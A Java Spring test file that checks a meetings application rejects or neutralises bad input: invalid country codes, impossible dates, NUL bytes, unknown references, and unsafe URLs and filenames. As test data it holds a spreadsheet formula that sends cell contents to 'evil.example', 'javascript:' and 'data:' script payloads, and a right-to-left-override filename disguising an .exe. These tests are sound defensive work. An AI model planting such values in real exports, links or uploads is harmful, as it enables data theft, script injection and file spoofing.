package org.puente.web;

import java.nio.charset.StandardCharsets;
import java.util.UUID;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import org.junit.jupiter.api.Test;
import org.puente.PuenteTest;
import org.puente.WebTestSupport;
import org.puente.documents.DocumentForms;
import org.puente.meetings.PostedMeetingForm;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;

import static org.puente.PageContent.lacks;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.not;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * The probe's findings on input: one rule per field for forms, API and imports (links, countries, languages,
 * dates), exports that no spreadsheet runs as formulas, honest statuses for unknown references and NUL bytes.
 */
@PuenteTest
class StrictInputTests extends WebTestSupport {

	@Autowired
	JdbcTemplate jdbc;

	String meeting(String extra) {
		return """
				{"titleEs":"Reunión de prueba estricta","kind":"WORKING_MEETING","precision":"DAYS",
				 "startDate":"2027-03-10","status":"TENTATIVE","visibility":"PUBLIC","processes":["CRM"]%s}"""
			.formatted(extra);
	}

	/** The meeting's JSON sent to the API by the CRM secretariat. */
	MockHttpServletRequestBuilder meetingByApi(String json) {
		return post("/api/v1/meetings").contentType(MediaType.APPLICATION_JSON).content(json).with(as("st-crm")).with(csrf());
	}

	@Test
	void theApiRefusesACountryThatOnlyLooksLikeACodeAndSaysWhichField() throws Exception {
		mvc.perform(meetingByApi(meeting(",\"countryIso2\":\"ZZ\"")).header("Accept-Language", "en"))
			.andExpect(status().isUnprocessableContent())
			.andExpect(jsonPath("$.detail").value(containsString("countryIso2")))
			.andExpect(jsonPath("$.detail").value(containsString("ISO")));
		mvc.perform(meetingByApi(meeting(",\"countryIso2\":\"PA\",\"participantCountries\":[\"CL\",\"XX\"]")))
			.andExpect(status().isUnprocessableContent());
		mvc.perform(meetingByApi(meeting(",\"countryIso2\":\"PA\",\"onlineUrl\":\"javascript:alert(1)\"")))
			.andExpect(status().isUnprocessableContent());
	}

	@Test
	void anUnknownHostMeetingIsAMistakeToCorrectNotADuplicate() throws Exception {
		mvc.perform(meetingByApi(meeting(",\"hostMeetingId\":\"" + UUID.randomUUID() + "\"")))
			.andExpect(status().isUnprocessableContent())
			.andExpect(jsonPath("$.code").value("meetings.host.unknown"));
	}

	@Test
	void anImpossibleDateInTheApiIsABadRequest() throws Exception {
		mvc.perform(meetingByApi(meeting("").replace("2027-03-10", "2017-02-30")))
			.andExpect(status().isBadRequest());
	}

	@Test
	void aNulByteInAFormIsABadRequestAndNothingIsStored() throws Exception {
		storingNothingIn("meeting", PostedMeetingForm.meeting("Reunión\u0000nula", "2027-03-10").with("endDate")
				.with("status", "TENTATIVE").postTo("/meetings").with(as("st-crm")).with(csrf()))
			.andExpect(status().isBadRequest());
	}

	@Test
	void aNulByteInTheJsonApiIsABadRequestNotADuplicate() throws Exception {
		mvc.perform(meetingByApi(meeting("").replace("Reunión de prueba estricta", "Reunión\\u0000nula")))
			.andExpect(status().isBadRequest());
	}

	@Test
	void theDocumentFormRefusesALanguagePuenteDoesNotSpeak() throws Exception {
		storingNothingIn("document", DocumentForms.upload(DocumentForms.text("nota.txt", "Nota"), "title.es",
				"Nota en idioma inventado", "language", "xx").with(as("st-crm")).with(csrf()))
			.andExpect(status().isUnprocessableContent());
	}

	@Test
	void aSpreadsheetRunsNoFormulaFromAProgressNote() throws Exception {
		String json = mvc.perform(get("/api/v1/agreements")).andReturn().getResponse().getContentAsString(
				StandardCharsets.UTF_8);
		JsonNode first = JsonMapper.builder().build().readTree(json).get(0);
		String id = first.get("id").asText();
		long version = first.get("version").asLong();
		String evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
		mvc.perform(post("/agreements/items/" + id + "/updates").param("version", String.valueOf(version))
				.param("note", evil).with(as("st-crm")).with(csrf()))
			.andExpect(status().is3xxRedirection());
		mvc.perform(get("/agreements/export.csv"))
			.andExpect(status().isOk())
			.andExpect(content().string(containsString("'=HYPERLINK(")))
			.andExpect(lacks(",=HYPERLINK(", ",\"=HYPERLINK("));
		byte[] xlsx = mvc.perform(get("/agreements/export.xlsx")).andReturn().getResponse().getContentAsByteArray();
		try (var book = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new java.io.ByteArrayInputStream(xlsx))) {
			var cells = new java.util.ArrayList<org.apache.poi.ss.usermodel.Cell>();
			book.getSheetAt(0).forEach(row -> row.forEach(cells::add));
			assertThat(cells).filteredOn(c -> c.getCellType() == org.apache.poi.ss.usermodel.CellType.FORMULA).isEmpty();
			assertThat(cells).filteredOn(c -> c.getCellType() == org.apache.poi.ss.usermodel.CellType.STRING
					&& c.getStringCellValue().equals(evil))
				.isNotEmpty()
				.allSatisfy(c -> assertThat(c.getCellStyle().getQuotePrefixed()).isTrue());
		}
	}

	@Test
	void aDownloadNameLosesTheRightToLeftOverride() throws Exception {
		var result = mvc.perform(DocumentForms.upload(DocumentForms.text("acta\u202Efdp.txt", "Acta"),
				"title.es", "Acta con nombre engañoso").with(as("st-crm")).with(csrf()))
			.andExpect(status().is3xxRedirection())
			.andReturn();
		String id = result.getResponse().getRedirectedUrl().replace("/documents/", "");
		mvc.perform(get("/documents/" + id + "/versions/1"))
			.andExpect(status().isOk())
			.andExpect(header().string("Content-Disposition", not(containsString("\u202E"))))
			.andExpect(header().string("Content-Disposition", not(containsString("%E2%80%AE"))))
			.andExpect(header().string("Content-Disposition", containsString("actafdp.txt")));
	}

	@Test
	void theSharedChecksSayWhatTheyAccept() {
		assertThat(WebUrl.Check.isWebUrl("https://www.iom.int/es")).isTrue();
		assertThat(WebUrl.Check.isWebUrl("javascript:alert(1)")).isFalse();
		assertThat(WebUrl.Check.isWebUrl("JAVASCRIPT://%0aalert(1)")).isFalse();
		assertThat(WebUrl.Check.isWebUrl("data:text/html,<script>")).isFalse();
		assertThat(WebUrl.Check.isWebUrl("//evil.example")).isFalse();
		assertThat(WebUrl.Check.isWebUrl("http:///nohost")).isFalse();
		assertThat(CountryCode.Check.isCountryCode("PA")).isTrue();
		assertThat(CountryCode.Check.isCountryCode("ZZ")).isFalse();
		assertThat(SpreadsheetCells.csv("-2+3")).isEqualTo("'-2+3");
		assertThat(SpreadsheetCells.csv("\tcmd")).isEqualTo("'\tcmd");
		assertThat(SpreadsheetCells.csv("Texto normal")).isEqualTo("Texto normal");
		assertThat(FileNames.safe("informe\u202Efdp.exe")).isEqualTo("informefdp.exe");
		assertThat(new org.puente.i18n.DateFormats().iso(java.time.Instant.parse("2026-12-02T10:15:30.123456Z")))
			.isEqualTo("2026-12-02T10:15:30.123Z");
	}
}
